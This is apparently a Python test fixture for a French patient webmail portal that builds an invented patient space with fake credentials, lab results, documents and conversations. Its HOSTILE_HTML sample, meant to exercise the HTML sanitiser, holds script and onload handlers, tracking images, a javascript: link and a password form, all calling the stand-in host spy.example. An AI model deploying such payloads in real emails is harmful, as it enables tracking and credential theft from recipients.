"""An invented patient's space, in memory, behind the ports of the web space.

Two spaces exist, so that references of one can be tried from the other. Acts of the outside world
(`receive`, `end`) are methods of `WebWorld`; pages see them through the ports only.
"""

import asyncio
import zlib
from collections.abc import AsyncGenerator
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

from gateway.domain.document import DocumentCategory
from gateway.domain.errors import NotFound
from webmail.model import (
    AccountId,
    Attachment,
    CodeSent,
    Conversation,
    ConversationId,
    ConversationSummary,
    Correspondent,
    CorrespondentKind,
    Delivery,
    Document,
    DocumentFile,
    DocumentId,
    DocumentList,
    DocumentSummary,
    ExchangeState,
    File,
    Home,
    HtmlBody,
    InlineImage,
    Message,
    MessageId,
    Page,
    Pulse,
    ReplyDraft,
    ReplyRefused,
    ReplySent,
    Result,
    ResultGroup,
    SignedIn,
    SignInRefusal,
    SpaceId,
    Viewer,
)

NOW = datetime(2026, 3, 12, 9, 5, tzinfo=UTC)
IDENTIFIER, PASSWORD, CODE = "camille.martin", "Trois-lampes-bleues-7", "aB3dE9"
CAMILLE = SignedIn(
    Viewer(SpaceId("space-1"), AccountId("account-1")), "Camille Martin", "279035121518989@patient.mssante.fr"
)
OTHER = SignedIn(Viewer(SpaceId("space-2"), AccountId("account-2")), "Noé Petit", "195035121518986@patient.mssante.fr")

VASSEUR = Correspondent("Dr Hélène Vasseur", CorrespondentKind.PERSON, "Médecin généraliste · Lyon")
KADDOUR = Correspondent("Dr Samir Kaddour", CorrespondentKind.PERSON, "Cardiologue · Villeurbanne")
LABORATORY = Correspondent("Laboratoire des Halles", CorrespondentKind.APPLICATION, "Biologie médicale · Lyon")
HOSPITAL = Correspondent("Service de cardiologie", CorrespondentKind.ORGANISATION, "Hôpital Saint-Exemple")

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082"
)


def invented_pdf(text: str) -> bytes:
    """Make a one-page PDF that says `text` (ASCII)."""
    drawn = zlib.compress(b"BT /F1 20 Tf 60 760 Td (" + text.encode("ascii") + b") Tj ET")
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(drawn), drawn),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


HOSTILE_HTML = """<html><head><style>@import url(https://spy.example/i.css);body{background:url(//spy.example/b)}</style></head>
<body bgcolor="#ffffff" background="https://spy.example/body.png" onload="fetch('https://spy.example/onload')">
<h2 style="color:red;background-image:url(https://spy.example/h2.png)">Votre rendez-vous</h2>
<p style="font-weight:bold">Voici la courbe de votre tension&nbsp;:</p>
<img src="cid:courbe@cabinet.example" alt="Courbe de tension" width="120" height="40">
<img src="https://spy.example/pixel.gif" alt="" width="1" height="1">
<script>parent.document.title = 'volé'; fetch('https://spy.example/script')</script>
<svg onload="fetch('https://spy.example/svg')"><image href="https://spy.example/svg.png"/></svg>
<a href="https://rendez-vous.example/dr-vasseur">Prendre rendez-vous</a>
<a href="javascript:fetch('https://spy.example/js')">ici</a>
<form action="https://spy.example/form"><input name="mot_de_passe"><button>Valider</button></form>
<iframe src="https://spy.example/frame"></iframe><link rel="stylesheet" href="https://spy.example/l.css">
<video src="https://spy.example/v.mp4" autoplay></video><meta http-equiv="refresh" content="0;url=https://spy.example/m">
</body></html>"""


@dataclass(frozen=True, slots=True)
class FixedClock:
    """A clock that stands still."""

    at: datetime = NOW

    def now(self) -> datetime:
        """Give the instant it stands at."""
        return self.at


@dataclass
class WebWorld:
    """Everything one needs to show the pages; satisfies `webmail.ports.PatientSpaceService`."""

    conversations_by_id: dict[str, Conversation] = field(default_factory=dict)
    documents_by_id: dict[str, Document] = field(default_factory=dict)
    files: dict[tuple[str, str], bytes] = field(default_factory=dict)
    html: dict[str, HtmlBody] = field(default_factory=dict)
    owners: dict[str, SpaceId] = field(default_factory=dict)
    replies: list[ReplyDraft] = field(default_factory=list)
    revision: int = 1
    changed: asyncio.Condition = field(default_factory=asyncio.Condition)

    # Acts of the outside world

    def add_conversation(self, conversation: Conversation, owner: SignedIn = CAMILLE) -> None:
        """Put a conversation in a space."""
        self.conversations_by_id[conversation.id] = conversation
        self.owners[conversation.id] = owner.viewer.space
        for message in conversation.messages:
            self.owners[message.id] = owner.viewer.space

    def add_document(self, document: Document, owner: SignedIn = CAMILLE) -> None:
        """Put a document in a space."""
        self.documents_by_id[document.summary.id] = document
        self.owners[document.summary.id] = owner.viewer.space

    async def receive(self, conversation: str, message: Message) -> None:
        """Let a message arrive; pages that are open are told."""
        known = self.conversations_by_id[conversation]
        self.add_conversation(replace(known, messages=(*known.messages, message)))
        await self._tell()

    async def end(self, conversation: str) -> None:
        """Let the professional end the exchange (A8)."""
        known = self.conversations_by_id[conversation]
        self.conversations_by_id[conversation] = replace(known, state=ExchangeState.ENDED)
        await self._tell()

    async def _tell(self) -> None:
        self.revision += 1
        async with self.changed:
            self.changed.notify_all()

    # Sign-in

    async def sign_in(self, identifier: str, password: str, source: str) -> CodeSent | SignInRefusal:
        """Know one password."""
        if identifier == "trop.souvent":
            return SignInRefusal.TOO_MANY_ATTEMPTS
        if (identifier, password) != (IDENTIFIER, PASSWORD):
            return SignInRefusal.WRONG_CREDENTIALS
        return CodeSent("attempt-of-camille", "06\u00a0••\u00a0••\u00a0••\u00a012")

    async def verify_code(self, pending: str, code: str, source: str) -> SignedIn | SignInRefusal:
        """Know one code."""
        if pending != "attempt-of-camille":
            return SignInRefusal.CODE_EXPIRED
        return CAMILLE if code == CODE else SignInRefusal.WRONG_CODE

    # Space

    async def pulse(self, viewer: Viewer) -> Pulse:
        """Count."""
        unread = sum(item.unread for item in self._summaries(viewer))
        return Pulse(self.revision, unread, sum(d.summary.is_new for d in self._documents(viewer)))

    async def home(self, viewer: Viewer) -> Home:
        """Show three of each."""
        return Home(tuple(self._summaries(viewer)[:4]), tuple(d.summary for d in self._documents(viewer)[:3]))

    async def changes(self, viewer: Viewer, since: int) -> AsyncGenerator[Pulse, None]:
        """Give a pulse whenever the revision has moved on."""
        while True:
            async with self.changed:
                while self.revision <= since:
                    await self.changed.wait()
            since = self.revision
            yield await self.pulse(viewer)

    # Messages

    def _summaries(self, viewer: Viewer) -> list[ConversationSummary]:
        mine = [c for c in self.conversations_by_id.values() if self.owners[c.id] == viewer.space]
        return sorted((_summary_of(c) for c in mine), key=lambda item: item.at, reverse=True)

    async def conversations(self, viewer: Viewer, page: int) -> Page[ConversationSummary]:
        """List twenty a page."""
        every = self._summaries(viewer)
        return Page(tuple(every[(page - 1) * 20 : page * 20]), page, len(every) > page * 20)

    def _mine(self, viewer: Viewer, reference: str) -> None:
        if self.owners.get(reference) != viewer.space:
            raise NotFound("no such object in this space")

    async def conversation(self, viewer: Viewer, conversation: ConversationId) -> Conversation:
        """Read, and mark as read."""
        self._mine(viewer, conversation)
        if conversation not in self.conversations_by_id:
            raise NotFound("no such conversation")
        shown = self.conversations_by_id[conversation]
        self.conversations_by_id[conversation] = replace(
            shown, messages=tuple(replace(message, unread=False) for message in shown.messages)
        )
        return shown

    async def reply(
        self, viewer: Viewer, conversation: ConversationId, draft: ReplyDraft
    ) -> ReplySent | ReplyRefused:
        """Append the reply, unless the exchange has ended."""
        self._mine(viewer, conversation)
        known = self.conversations_by_id[conversation]
        if known.state is not ExchangeState.OPEN:
            return ReplyRefused(f"{known.correspondent.name} a mis fin à vos échanges.")
        reference = MessageId(f"reply-{draft.submission}")
        if all(message.id != reference for message in known.messages):
            self.replies.append(draft)
            files = tuple(
                Attachment(str(n + 2), u.name, u.media_type, len(u.content)) for n, u in enumerate(draft.uploads)
            )
            for file, upload in zip(files, draft.uploads, strict=True):
                self.files[(reference, file.section)] = upload.content
            own = Message(
                reference, NOW, CAMILLE.name, draft.text, delivery=Delivery.ON_ITS_WAY, attachments=files
            )
            self.add_conversation(replace(known, messages=(*known.messages, own)))
        return ReplySent(reference)

    async def attachment(self, viewer: Viewer, message: MessageId, section: str) -> File:
        """Open an attachment."""
        self._mine(viewer, message)
        every = [m for c in self.conversations_by_id.values() for m in c.messages if m.id == message]
        found = next((a for m in every for a in m.attachments if a.section == section), None)
        if found is None:
            raise NotFound("no such attachment")
        return _file(found.name, found.media_type, self.files[(message, section)])

    async def html_body(self, viewer: Viewer, message: MessageId) -> HtmlBody:
        """Give the HTML body."""
        self._mine(viewer, message)
        if message not in self.html:
            raise NotFound("no HTML body")
        return self.html[message]

    # Documents

    def _documents(self, viewer: Viewer) -> list[Document]:
        mine = [d for d in self.documents_by_id.values() if self.owners[d.summary.id] == viewer.space]
        return sorted(mine, key=lambda d: str(d.summary.dated), reverse=True)

    async def documents(self, viewer: Viewer, category: DocumentCategory | None, page: int) -> DocumentList:
        """List twenty a page."""
        every = [d.summary for d in self._documents(viewer)]
        counts = {c: sum(s.category is c for s in every) for c in DocumentCategory}
        chosen = [s for s in every if category in (None, s.category)]
        return DocumentList(Page(tuple(chosen[(page - 1) * 20 : page * 20]), page, len(chosen) > page * 20), counts)

    async def document(self, viewer: Viewer, document: DocumentId) -> Document:
        """Read, and mark as seen."""
        self._mine(viewer, document)
        if document not in self.documents_by_id:
            raise NotFound("no such document")
        shown = self.documents_by_id[document]
        self.documents_by_id[document] = replace(shown, summary=replace(shown.summary, is_new=False))
        return shown

    async def document_file(self, viewer: Viewer, document: DocumentId, which: str) -> File:
        """Open a file."""
        self._mine(viewer, document)
        known = self.documents_by_id[document]
        found = next((f for f in known.files if f.which == which), None)
        if found is None:
            raise NotFound("no such file")
        return _file(found.name, found.media_type, self.files[(document, which)])


def _summary_of(conversation: Conversation) -> ConversationSummary:
    last = conversation.messages[-1]
    return ConversationSummary(
        conversation.id,
        conversation.correspondent,
        conversation.subject,
        " ".join(last.text.split())[:140],
        last.at,
        conversation.state,
        messages=len(conversation.messages),
        unread=sum(message.unread for message in conversation.messages),
        has_attachment=any(message.attachments for message in conversation.messages),
        has_document=any(message.documents for message in conversation.messages),
        last_is_mine=last.delivery is not None,
    )


def _file(name: str, media_type: str, content: bytes) -> File:
    async def chunks() -> AsyncGenerator[bytes, None]:
        for start in range(0, len(content), 65536):
            yield content[start : start + 65536]

    return File(name, media_type, len(content), chunks())


def _ago(**spans: float) -> datetime:
    return NOW - timedelta(**spans)


def invented_results() -> tuple[ResultGroup, ...]:
    """Give results of every kind that a page must show."""
    d = Decimal
    return (
        ResultGroup(
            "Hématologie",
            (
                Result("Hémoglobine", "13.8", "718-7", "g/dL", d("11.5"), d("16.0"), interpretation="N"),
                Result("Leucocytes", "11.4", "6690-2", "10⁹/L", d("4.0"), d("10.0"), interpretation="H"),
                Result("Plaquettes", "96", "777-3", "10⁹/L", d("150"), d("400"), interpretation="L"),
            ),
        ),
        ResultGroup(
            "Biochimie",
            (
                Result("Glycémie à jeun", "1.12", "2339-0", "g/L", d("0.70"), d("1.10"), interpretation="H",
                       other_unit="6,2 mmol/L", method="Hexokinase"),
                Result("Potassium", "6.8", "2823-3", "mmol/L", d("3.5"), d("5.1"), interpretation="HH",
                       comment="Vérifié sur un second prélèvement."),
                Result("Protéine C réactive", "<1.0", "1988-5", "mg/L", None, d("5.0")),
                Result("Cholestérol HDL", "0.52", "2085-9", "g/L", d("0.40"), None),
                Result("Débit de filtration glomérulaire", ">90", "62238-1", "mL/min", d("60"), None),
                Result("Antigène HBs", "Négatif", "5196-1", reference="Négatif"),
                Result("Ferritine", "148", "2276-4", "µg/L"),
            ),
        ),
        ResultGroup("Antibiogramme", (Result("Amoxicilline", "Sensible", "18861-5", interpretation="S"),)),
    )  # fmt: skip


def _document(
    reference: str, title: str, category: DocumentCategory, dated: date | datetime, author: str, **more: object
) -> Document:
    results = invented_results() if more.pop("with_results", False) else ()
    summary = DocumentSummary(
        DocumentId(reference), title, category, dated, author,
        is_new=bool(more.get("is_new")), identity_verified=bool(more.get("identity_verified", True)),
        results=sum(len(group.results) for group in results), has_alert=bool(results),
        is_replaced=bool(more.get("is_replaced")),
    )  # fmt: skip
    conversation = more.get("conversation")
    return Document(
        summary,
        str(more.get("type_label", "Compte rendu")),
        _ago(hours=2),
        sender=LABORATORY if results else HOSPITAL,
        conversation=ConversationId(str(conversation)) if conversation else None,
        results=results,
        files=(
            DocumentFile("pdf", f"{title}.pdf", "application/pdf", len(invented_pdf("Compte rendu"))),
            DocumentFile("original", f"{title}.xml", "text/xml", 48_210),
        ),
    )


def demo_world() -> WebWorld:
    """Make a space with a bit of everything."""
    world = WebWorld()
    bilan = _document("d-bilan", "Bilan sanguin complet", DocumentCategory.BIOLOGY, _ago(hours=3), "Dr Anne Leroy, biologiste",
                      with_results=True, is_new=True, conversation="c-labo", type_label="Compte rendu d’examens biologiques")  # fmt: skip
    echo = _document("d-echo", "Échographie cardiaque", DocumentCategory.IMAGING, date(2026, 2, 27), "Dr Samir Kaddour",
                     is_new=True, conversation="c-kaddour", type_label="Compte rendu d’imagerie médicale")  # fmt: skip
    others = [
        _document("d-ordo", "Ordonnance de kinésithérapie", DocumentCategory.PRESCRIPTIONS, date(2026, 1, 19), "Dr Hélène Vasseur"),
        _document("d-crh", "Lettre de sortie d’hospitalisation", DocumentCategory.REPORTS, date(2025, 11, 4), "Service de cardiologie"),
        _document("d-scan", "scan_0042.pdf", DocumentCategory.OTHER, date(2025, 10, 2), "", identity_verified=False),
        _document("d-vac", "Note de vaccination", DocumentCategory.VACCINATION, date(2025, 9, 12), "Pharmacie du Pont"),
        _document("d-bilan-0", "Bilan lipidique", DocumentCategory.BIOLOGY, date(2024, 6, 3), "Laboratoire des Halles", is_replaced=True),
    ]  # fmt: skip
    for document in (bilan, echo, *others):
        world.add_document(document)
        for file in document.files:
            content = invented_pdf("Compte rendu") if file.which == "pdf" else b"<ClinicalDocument/>".ljust(file.size)
            world.files[(document.summary.id, file.which)] = content
    world.add_document(_document("d-autre", "Bilan de Noé", DocumentCategory.BIOLOGY, date(2026, 1, 1), ""), OTHER)
    for conversation in _conversations(bilan.summary, echo.summary):
        world.add_conversation(conversation)
    world.files[("m-1", "2")] = invented_pdf("Plan alimentaire")
    world.files[("m-1", "3")] = PNG
    world.html["m-html"] = HtmlBody(HOSTILE_HTML, {"courbe@cabinet.example": InlineImage("image/png", PNG)})
    secret = Message(MessageId("m-autre"), NOW, "Dr Hélène Vasseur", "Pour Noé seulement.")
    world.add_conversation(
        Conversation(ConversationId("c-autre"), VASSEUR, "Noé", ExchangeState.OPEN, (secret,)), OTHER
    )
    return world


def _conversations(bilan: DocumentSummary, echo: DocumentSummary) -> list[Conversation]:
    first = Message(
        MessageId("m-1"), _ago(days=2, hours=5), "Dr Hélène Vasseur",
        "Bonjour Madame Martin,\n\nVos analyses sont rassurantes dans l’ensemble. La glycémie est un peu au-dessus de "
        "l’intervalle : je vous propose de refaire le dosage dans trois mois, et je joins un plan alimentaire.\n\n"
        "Les explications sont ici : https://sante.example/glycemie.\n\nBien à vous,\nHélène Vasseur",
        attachments=(
            Attachment("2", "Plan alimentaire - mars 2026.pdf", "application/pdf", 184_320),
            Attachment("3", "courbe.png", "image/png", len(PNG)),
        ),
    )  # fmt: skip
    mine = Message(
        MessageId("m-2"), _ago(days=1, hours=3), "Camille Martin",
        "Merci docteur.\nDois-je arrêter le sucre dans le café ? :)", delivery=Delivery.DELIVERED,
    )  # fmt: skip
    last = Message(
        MessageId("m-3"), _ago(minutes=25), "Dr Hélène Vasseur",
        "Une seule cuillère, c’est très bien.\n\nÀ bientôt.\n\nLe 11 mars 2026, Camille Martin a écrit :\n"
        "> Merci docteur.\n> Dois-je arrêter le sucre dans le café ?", unread=True,
    )  # fmt: skip
    html = Message(
        MessageId("m-html"), _ago(days=6), "Service de cardiologie",
        "Votre rendez-vous\nVoici la courbe de votre tension.", has_html=True,
    )  # fmt: skip
    result = Message(
        MessageId("m-labo"), _ago(hours=3), "Laboratoire des Halles",
        "Bonjour,\n\nVeuillez trouver ci-joint le compte rendu de vos examens.", unread=True, documents=(bilan,),
        attachments=(
            Attachment("2", "IHE_XDM.zip", "application/zip", 61_440),
            Attachment("3", "20260312_CR-BIO_MARTIN_Camille.pdf", "application/pdf", 98_120),
        ),
    )  # fmt: skip
    ended = Message(
        MessageId("m-fin"), _ago(days=13), "Dr Samir Kaddour",
        "L’échographie est normale. Nous nous revoyons dans un an.", documents=(echo,),
    )  # fmt: skip
    failed = Message(
        MessageId("m-ko"), _ago(days=40), "Camille Martin", "Voici l’adresse de mon dentiste.", delivery=Delivery.FAILED
    )
    return [
        Conversation(ConversationId("c-vasseur"), VASSEUR, "Vos analyses de mars", ExchangeState.OPEN, (first, mine, last)),
        Conversation(ConversationId("c-labo"), LABORATORY, "XDM/1.0/DDM+Bilan sanguin complet MARTIN Camille 12/03/1979",
                     ExchangeState.AUTOMATIC, (result,)),
        Conversation(ConversationId("c-hopital"), HOSPITAL, "Confirmation de rendez-vous", ExchangeState.OPEN, (html,)),
        Conversation(ConversationId("c-kaddour"), KADDOUR, "RE: Échographie du 27 février", ExchangeState.ENDED, (ended,)),
        Conversation(ConversationId("c-dent"), VASSEUR, "Coordonnées de votre dentiste", ExchangeState.OPEN, (failed,)),
    ]  # fmt: skip
